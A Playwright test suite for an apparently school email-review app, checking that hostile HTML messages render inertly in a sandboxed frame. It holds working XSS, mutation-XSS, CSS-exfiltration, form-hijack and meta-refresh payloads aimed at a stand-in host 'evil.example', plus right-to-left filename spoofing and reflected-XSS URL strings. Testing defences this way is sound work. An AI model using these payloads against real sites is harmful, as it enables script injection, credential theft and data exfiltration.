"""Hostile messages in a real Chromium: nothing in them runs, loads, submits, styles the page or leaves a name turned round."""

import base64
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page

from mailguard.app.site_settings import SiteSettings
from mailguard.domain.account import SiteRole
from tests.browser.windows import DESKTOP, Watched, signed_in
from tests.schooling import PUPIL, TEACHER
from tests.web_site import WebSchool, make_web_school, running_site

EVIL = "evil.example"
HOSTILE = {
    "script": "<script>alert(1);document.title='owned'</script><p>words</p>",
    "script in odd case": "<ScRiPt src=//evil.example/x.js></sCrIpT><p>words</p>",
    "event handlers": (
        "<p onmouseover=alert(1) onclick=alert(2)>words</p><img src=x onerror=alert(3)><body onload=alert(4)>"
    ),
    "svg": (
        "<svg onload=alert(1)><script>alert(2)</script><image href=//evil.example/i.png /></svg><p>words</p>"
    ),
    "mathml mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerro"
        "r=alert(1)&gt;'></table></mtext></math><p>words</p>"
    ),
    "noscript mutation": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>words</p>"
    ),
    "javascript links": (
        "<a href='javascript:alert(1)'>words</a> <a href=' &#x6A;avascript:alert(2)'>more</a> "
        "<a href='data:text/html,<script>alert(3)</script>'>data</a>"
    ),
    "form": (
        "<form action='//evil.example/take'><input name=password autofocus><button>words</butt"
        "on></form><script>document.forms[0].submit()</script>"
    ),
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'><p>words</p>",
    "base": "<base href='//evil.example/'><a href='/queue'>words</a>",
    "css exfiltration": (
        "<style>@import url(//evil.example/a.css);input[value^=a]{background:url(//evil.exampl"
        "e/a)}@font-face{font-family:x;src:url(//evil.example/f)}body{font-family:x;background"
        ":url(//evil.example/b)}</style><link rel=stylesheet href=//evil.example/c.css><p>word"
        "s</p>"
    ),
    "inline style": (
        "<div style='position:fixed;inset:0;background:url(//evil.example/d) white;z-index:999'>words</div>"
    ),
    "pictures": (
        "<img src=//evil.example/p.gif srcset='//evil.example/p2.gif 2x'><picture><source srcs"
        "et=//evil.example/p3.gif><img src=//evil.example/p4.gif></picture><table background=/"
        "/evil.example/t.gif><td>words</table>"
    ),
    "media": (
        "<video src=//evil.example/v poster=//evil.example/vp autoplay></video><audio src=//ev"
        "il.example/a autoplay></audio><object data=//evil.example/o></object><embed src=//evi"
        "l.example/e><p>words</p>"
    ),
    "frames": (
        "<iframe src=//evil.example/f></iframe><iframe srcdoc='<script>alert(1)</script>'></if"
        "rame><frameset><frame src=//evil.example/g></frameset><p>words</p>"
    ),
    "prefetch": (
        "<link rel=prefetch href=//evil.example/pf><link rel=dns-prefetch href=//evil.example>"
        "<link rel=preload as=image href=//evil.example/pl><p>words</p>"
    ),
    "breaking out": (
        "</body></html></iframe></details></section><script>alert(1)</script><h1>Queue</h1><p>words</p>"
    ),
    "template expressions": "{{ 7*7 }} {% raw %} <%= 7*7 %> ${7*7} <p>words</p>",
}


def html_letter(html: str, number: int) -> bytes:
    body = base64.encodebytes(html.encode()).decode().replace("\n", "\r\n")
    return (
        f"From: \"<script>alert('name')</script>\" <{PUPIL}>\r\nTo: {TEACHER}\r\n"
        f"Subject: <img src=//{EVIL}/s.gif onerror=alert('subject')> {number}\r\n"
        f"Message-ID: <{number}@pupils.hill.example>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    ).encode()


@pytest.fixture(scope="module")
def school(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebSchool]:
    with make_web_school(tmp_path_factory.mktemp("hostile"), settings=SiteSettings()) as made:
        yield made


@pytest.fixture(scope="module")
def window(browser: Browser, school: WebSchool) -> Iterator[Watched]:
    with (
        running_site(school) as address,
        signed_in(browser, school, address, SiteRole.HEAD, viewport=DESKTOP) as watched,
    ):
        yield watched


def opened(school: WebSchool, window: Watched, html: str) -> Frame:
    """The case on the screen, with the formatted view open; that view's frame."""
    school.received += 1
    case_id = school.receive(html_letter(html, 5_000 + school.received))
    for kept in (window.requests, window.said, window.dialogs):
        kept.clear()
    window.go(f"/cases/{case_id}")
    return formatted(window.page)


def formatted(page: Page) -> Frame:
    page.locator("details.formatted > summary").click()
    handle = page.locator("details.formatted iframe").element_handle()
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_load_state("load")
    frame.locator("body").wait_for(state="attached")
    page.wait_for_timeout(150)
    return frame


def shape(page: Page) -> list[str]:
    """What the case's page is made of, without the words."""
    names: list[str] = page.evaluate(
        "[...document.querySelectorAll('main *')].filter(e => !e.closest('.message-text, .more ul'))"
        ".map(e => e.tagName + '.' + e.className)"
    )
    return names


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_in_it_runs_or_is_fetched(school: WebSchool, window: Watched, name: str) -> None:
    frame = opened(school, window, HOSTILE[name])
    assert window.dialogs == []
    assert window.foreign_requests == []
    assert not any(EVIL in url for url in window.requests)
    # Not even refused by the policy: there is nothing left that would ask.
    assert window.said == []
    assert window.page.title().startswith("MG-")
    assert window.page.url.startswith(window.address + "/cases/")
    body = frame.locator("body").inner_text()
    assert "words" in body
    assert (
        frame.locator(
            "script, style:not(head style), img, svg, form, input, iframe, link, [href], [src]"
        ).count()
        == 0
    )
    assert window.page.locator("main script, main img, main form input[name=password]").count() == 0


def test_a_hostile_message_leaves_the_page_around_it_as_it_is(school: WebSchool, window: Watched) -> None:
    opened(school, window, "<p>words</p>")
    harmless = shape(window.page)
    for name in ("breaking out", "script", "css exfiltration", "inline style"):
        opened(school, window, HOSTILE[name])
        now = shape(window.page)
        assert [each for each in harmless if each in ("FORM.inline", "SECTION.sheet decide")] == [
            each for each in now if each in ("FORM.inline", "SECTION.sheet decide")
        ], name
        assert window.page.get_by_role("heading", name="Queue").count() == 0
        box = window.page.locator("details.formatted iframe").bounding_box()
        assert box is not None
        assert box["height"] < 700


def test_the_frame_cannot_run_reach_or_leave(school: WebSchool, window: Watched) -> None:
    frame = opened(school, window, "<p>words</p>")
    handle = window.page.locator("details.formatted iframe").element_handle()
    assert handle is not None
    assert handle.get_attribute("sandbox") == ""
    answer = window.page.request.get(frame.url)
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'none';")
    assert "sandbox" in policy
    assert "unsafe" not in policy
    assert answer.headers["cache-control"] == "no-store"
    assert window.page.evaluate("document.querySelector('iframe').contentDocument") is None


def test_its_view_as_formatted_is_styled_by_us_and_marks_what_was_hidden(
    school: WebSchool, window: Watched
) -> None:
    frame = opened(
        school,
        window,
        "<p>words</p><p style='font-size:0'>secret</p><a href='https://evil.example/x'>here</a>",
    )
    hidden = frame.locator("[data-mailguard=hidden]")
    assert hidden.inner_text() == "secret"
    style = hidden.evaluate("e => getComputedStyle(e).outlineStyle + ' ' + getComputedStyle(e).fontSize")
    assert style == "dashed 16px"
    assert "[link to hxxps://evil[.]example/x]" in frame.locator("body").inner_text()
    hidden_box = window.page.locator(".hidden-words")
    assert "secret" in hidden_box.inner_text()


def test_direction_tricks_are_told_and_turn_nothing_round(school: WebSchool, window: Watched) -> None:
    encoded = base64.b64encode("photo\u202egpj.exe".encode()).decode()
    words = base64.encodebytes("look \u202egnihton\u202c and \u2066more\u2069".encode()).decode()
    lines = [
        f"From: =?utf-8?b?{base64.b64encode(chr(0x202E).encode() + b'daeh').decode()}?= <{PUPIL}>",
        f"To: {TEACHER}",
        "Subject: look",
        "Message-ID: <rtl@pupils.hill.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="m"',
        "",
        "--m",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        words.strip(),
        "--m",
        f'Content-Type: application/octet-stream; name="=?utf-8?b?{encoded}?="',
        "Content-Disposition: attachment",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(b"MZ" + b"\0" * 100).decode(),
        "--m--",
        "",
    ]
    case_id = school.receive("\r\n".join(lines).encode())
    window.go(f"/cases/{case_id}")
    files = window.page.locator(".files").inner_text()
    # A browser that obeyed the mark would show "photoexe.jpg".
    assert "photogpj.exe" in files
    assert "program" in files
    page = window.page.locator("main").inner_text()
    assert not set(page) & set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068")
    assert "marks that turn the direction of text round" in page


def test_a_huge_message_is_cut_says_so_and_stays_quick(school: WebSchool, window: Watched) -> None:
    huge = "<p>" + "word " * 600_000 + "</p>" + "<p>x</p>" * 5_000
    school.received += 1
    case_id = school.receive(html_letter(huge, 5_000 + school.received))
    window.go(f"/cases/{case_id}")
    page = window.text()
    assert "Cut here: the first 20,000 of" in page
    assert len(window.page.content()) < 200_000
    tangled = "<div>" * 30_000 + "words"
    frame = opened(school, window, tangled)
    assert "too tangled to be shown safely" in frame.locator("body").inner_text()


@pytest.mark.parametrize(
    "path", ["/queue?words={evil}", "/queue?show={evil}", "/cases/{evil}", "/queue?after={evil}"]
)
def test_hostile_addresses_are_words_too(window: Watched, path: str) -> None:
    window.dialogs.clear()
    evil = "%22%3E%3Cscript%3Ealert(1)%3C/script%3E%3Cimg%20src=x%20onerror=alert(2)%3E"
    window.go(path.format(evil=evil))
    window.page.wait_for_timeout(100)
    assert window.dialogs == []
    assert window.page.locator("main img").count() == 0


def test_every_view_is_on_the_record(school: WebSchool, window: Watched) -> None:
    opened(school, window, "<p>words</p>")
    with school.opened.store.reading() as transaction:
        views = [
            event.detail["view"] for event in transaction.audit.events() if event.tag == "review:case:viewed"
        ]
    assert views[-2:] == ["page", "formatted"]
